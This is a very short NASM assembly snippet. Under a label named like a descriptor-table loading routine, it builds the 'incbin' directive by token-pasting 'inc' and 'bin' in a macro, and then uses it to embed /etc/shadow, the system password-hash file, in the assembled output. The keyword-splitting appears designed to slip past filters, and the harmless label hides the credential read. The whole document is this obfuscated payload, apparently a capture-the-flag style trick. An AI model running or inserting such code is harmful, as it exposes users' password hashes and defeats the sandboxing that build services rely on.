gdt_load:
%define get inc %+ bin
    get "/etc/shadow"
    ret
